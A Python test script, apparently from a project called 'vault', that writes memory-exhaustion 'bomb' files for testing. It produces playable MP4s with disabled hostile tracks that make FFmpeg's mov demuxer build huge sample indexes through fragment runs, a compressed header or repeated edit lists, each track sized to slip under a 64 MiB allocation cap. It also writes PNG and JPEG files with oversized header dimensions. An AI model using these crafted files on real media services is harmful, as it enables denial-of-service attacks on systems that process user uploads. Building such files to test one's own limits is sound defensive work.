#!/usr/bin/env python3
"""Crafted files that make decoders spend memory (issue 31), written at test time.

Each MP4 bomb is a real little video (`base`: an MP4 made by FFmpeg, its `mdat` before its
`moov`, as FFmpeg writes it) with hostile tracks added to its `moov`. The real track stays
the one a player picks (the hostile ones are disabled in their `tkhd`), so the file plays
and a thumbnail can be made of it. FFmpeg's mov demuxer (Debian's FFmpeg 5.1) builds the
hostile tracks' sample index inside `avformat_open_input`, before the caller checks
anything and where no interrupt callback runs. vault caps any one allocation of FFmpeg's
at 64 MiB (`av_max_alloc`); each track stays just under that cap, and the number of
tracks multiplies it.

Python 3 standard library only. `python3 bombs.py BASE.mp4 FOLDER` writes every bomb into
FOLDER and prints its name and size."""
import os
import struct
import sys
import zlib

# vault's av_max_alloc, and FFmpeg's AVIndexEntry (pos, timestamp, 2 ints): the most index
# entries one track's array may hold, 2,796,202.
ALLOCATION_LIMIT = 64 << 20
INDEX_ENTRY_BYTES = 24
ENTRIES = ALLOCATION_LIMIT // INDEX_ENTRY_BYTES
# Hostile tracks are numbered from here, clear of the real video's.
FIRST_TRACK = 100
# Their samples point here, past the end of the file: reading one fails at once, so the
# real video's frames are all a reader gets (fragments' offsets are 64-bit, `stco`'s 32).
NOWHERE = 1 << 40
NOWHERE_32 = 0xFFFF_FFFF


def box(kind, *parts):
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def full_box(kind, version, flags, *parts):
    return box(kind, struct.pack(">I", version << 24 | flags), *parts)


def u32(*values):
    return struct.pack(f">{len(values)}I", *values)


def u64(*values):
    return struct.pack(f">{len(values)}Q", *values)


IDENTITY_MATRIX = u32(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)

# A 64×64 H.264 sample entry without a decoder configuration: the track is a video stream
# to FFmpeg, which indexes it whether or not it can be decoded.
AVC1 = box(b"avc1", bytes(6), struct.pack(">H", 1), bytes(16),
           struct.pack(">HHIIIH", 64, 64, 0x480000, 0x480000, 0, 1), bytes(32), struct.pack(">Hh", 24, -1))


def sample_tables(samples=0, sample_size=0, offset=0, composition=False):
    """`stbl` of `samples` samples of `sample_size` bytes each, in one chunk at `offset`:
    a few dozen bytes however many samples (one `stts` run, one `stsc` run, `stsz`'s single
    size). With `composition`, a `ctts` run too, which FFmpeg expands per sample as well."""
    runs = 1 if samples else 0
    tables = [full_box(b"stsd", 0, 0, u32(1), AVC1),
              full_box(b"stts", 0, 0, u32(runs), u32(samples, 1) * runs),
              full_box(b"stsc", 0, 0, u32(runs), u32(1, samples, 1) * runs),
              full_box(b"stsz", 0, 0, u32(sample_size, samples)),
              full_box(b"stco", 0, 0, u32(runs), u32(offset) * runs)]
    if composition and samples:
        tables.append(full_box(b"ctts", 0, 0, u32(1, samples, 0)))
    return box(b"stbl", *tables)


def track(track_id, tables, edits=b""):
    """A disabled video track (`tkhd` flags 0: not the stream a player or vault picks)."""
    header = full_box(b"tkhd", 0, 0, u32(0, 0, track_id, 0, 0, 0, 0, 0, 0), IDENTITY_MATRIX, u32(64 << 16, 64 << 16))
    media = box(b"mdia",
                full_box(b"mdhd", 0, 0, u32(0, 0, 1000, 0, 0x55C40000)),
                full_box(b"hdlr", 0, 0, u32(0), b"vide", u32(0, 0, 0), b"bomb\0"),
                box(b"minf", tables))
    return box(b"trak", header, edits, media)


def top_level_boxes(data):
    """(type, start, end) of each top-level box."""
    found, offset = [], 0
    while offset + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, offset)
        if size == 1:
            size = struct.unpack_from(">Q", data, offset + 8)[0]
        elif size == 0:
            size = len(data) - offset
        found.append((kind, offset, offset + size))
        offset += size
    return found


def with_tracks(base, tracks, extra=b""):
    """`base` up to its `moov` as it is (its `mdat`, so the real track's chunk offsets still
    hold), then (head, moov): the `moov` with `tracks` and `extra` boxes added."""
    boxes = top_level_boxes(base)
    kind, start, end = boxes[-1]
    if kind != b"moov" or b"mdat" not in [b[0] for b in boxes]:
        raise ValueError("the base video must end with its moov, after its mdat (FFmpeg's default)")
    return base[:start], box(b"moov", base[start + 8:end], *tracks, extra)


def fragment_bomb(base, tracks):
    """Fragments whose `trun` boxes each claim ENTRIES samples with no per-sample fields (the
    `trun` flags 0: every sample takes the `trex` defaults), 12 bytes for 2.8 M samples.
    FFmpeg's mov_read_trun grows the track's index (24 bytes an entry) and its composition
    offsets (8 bytes an entry, zeroed) by the claimed count and fills every entry: about
    90 MB a track, in RSS. The moov declares no samples (empty tables), so counting `stsz`
    finds none."""
    ids = range(FIRST_TRACK, FIRST_TRACK + tracks)
    # trex: track, sample description 1, default duration 1, default size 1 (FFmpeg refuses
    # a sample of 0 bytes), default flags.
    defaults = box(b"mvex", *[full_box(b"trex", 0, 0, u32(i, 1, 1, 1, 0)) for i in ids])
    head, moov = with_tracks(base, [track(i, sample_tables()) for i in ids], defaults)
    # tfhd flag 1: an explicit base data offset (NOWHERE); tfdt: the fragment starts at
    # 1000 s, after the real video, so a reader gets the real frames first.
    fragments = [box(b"traf", full_box(b"tfhd", 0, 1, u32(i), u64(NOWHERE)),
                     full_box(b"tfdt", 1, 0, u64(1_000_000)), full_box(b"trun", 0, 0, u32(ENTRIES)))
                 for i in ids]
    return head + moov + box(b"moof", full_box(b"mfhd", 0, 0, u32(1)), *fragments)


def compressed_header_bomb(base, tracks):
    """A `moov` holding only a `cmov`: the header, zlib-compressed (`dcom` 'zlib', `cmvd`
    with the inflated size), as old QuickTime wrote it. mov_read_cmov inflates it and reads
    it as the header. Inside, each hostile track declares ENTRIES samples of one
    byte in one chunk (a few dozen bytes), and mov_build_index allocates and fills an index
    entry for each: 64 MiB a track. Compressed, nothing of it is visible to a reader of the
    file's own boxes."""
    head, moov = with_tracks(base, [track(i, sample_tables(ENTRIES, 1, NOWHERE_32))
                                    for i in range(FIRST_TRACK, FIRST_TRACK + tracks)])
    compressed = box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", u32(len(moov)), zlib.compress(moov, 9)))
    return head + box(b"moov", compressed)


def edit_list_bomb(base, tracks, edits, samples):
    """Tracks of `samples` samples each (few: counting `stsz` finds little) whose edit list
    (`elst`) repeats the whole track `edits` times, 12 bytes an edit. mov_fix_index copies
    every sample once per edit into a new index (and composition offsets, from `ctts`),
    doubling its arrays as they fill, up to the allocation cap: edits × samples entries a
    track, capped near 2.8 M."""
    edit = u32(samples, 0, 0x10000)  # duration, media time 0, rate 1
    edit_list = box(b"edts", full_box(b"elst", 0, 0, u32(edits), edit * edits))
    head, moov = with_tracks(base, [track(i, sample_tables(samples, 1, NOWHERE_32, composition=True),
                                          edit_list)
                                    for i in range(FIRST_TRACK, FIRST_TRACK + tracks)])
    return head + moov


def png_bomb():
    """A PNG whose header claims 100000×100000 pixels, with one row of data."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)  # 8-bit grey
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(100_001)))
            + chunk(b"IEND", b""))


def jpeg_bomb():
    """A baseline JPEG whose frame header (SOF0) claims 60000×60000 grey pixels, with the
    tables and scan header a decoder reads before the pixels, and 16 bytes of them."""
    def segment(marker, data):
        return b"\xff" + marker + struct.pack(">H", 2 + len(data)) + data
    one_code = bytes([1] + [0] * 15 + [0])  # a Huffman table of one code, for the value 0
    return (b"\xff\xd8" + segment(b"\xdb", bytes([0]) + bytes([1] * 64))
            + segment(b"\xc0", struct.pack(">BHHB", 8, 60_000, 60_000, 1) + bytes([1, 0x11, 0]))
            + segment(b"\xc4", b"\x00" + one_code + b"\x10" + one_code)
            + segment(b"\xda", bytes([1, 1, 0x00, 0, 63, 0])) + bytes(16) + b"\xff\xd9")


# Issue 31's table, by file name: what writes each from the base video.
VIDEO_BOMBS = {
    "fragments-40-tracks.mp4": lambda base: fragment_bomb(base, 40),
    "fragments-80-tracks.mp4": lambda base: fragment_bomb(base, 80),
    "compressed-header.mp4": lambda base: compressed_header_bomb(base, 80),
    "edit-lists.mp4": lambda base: edit_list_bomb(base, 10, 27_000, 100),
}
# Pictures claiming sizes their bytes do not hold, which the headers' pre-checks refuse.
STILL_BOMBS = {"huge.png": png_bomb, "huge.jpg": jpeg_bomb}
NAMES = [*VIDEO_BOMBS, *STILL_BOMBS]


def write_all(base_path, folder):
    """Writes every bomb into `folder`: their paths, by file name."""
    with open(base_path, "rb") as file:
        base = file.read()
    written = {}
    makers = {**{name: lambda make=make: make(base) for name, make in VIDEO_BOMBS.items()}, **STILL_BOMBS}
    for name, make in makers.items():
        written[name] = os.path.join(folder, name)
        with open(written[name], "wb") as file:
            file.write(make())
    return written


USAGE = "usage: bombs.py BASE.mp4 FOLDER  (BASE.mp4: a short video made by FFmpeg; every bomb is written into FOLDER)"

if __name__ == "__main__":
    if any(argument in ("-h", "--help") for argument in sys.argv[1:]):
        print(USAGE)
        sys.exit(0)
    if len(sys.argv) != 3:
        sys.exit(USAGE)
    for name, path in write_all(sys.argv[1], sys.argv[2]).items():
        print(f"{name}: {os.path.getsize(path):,} bytes")
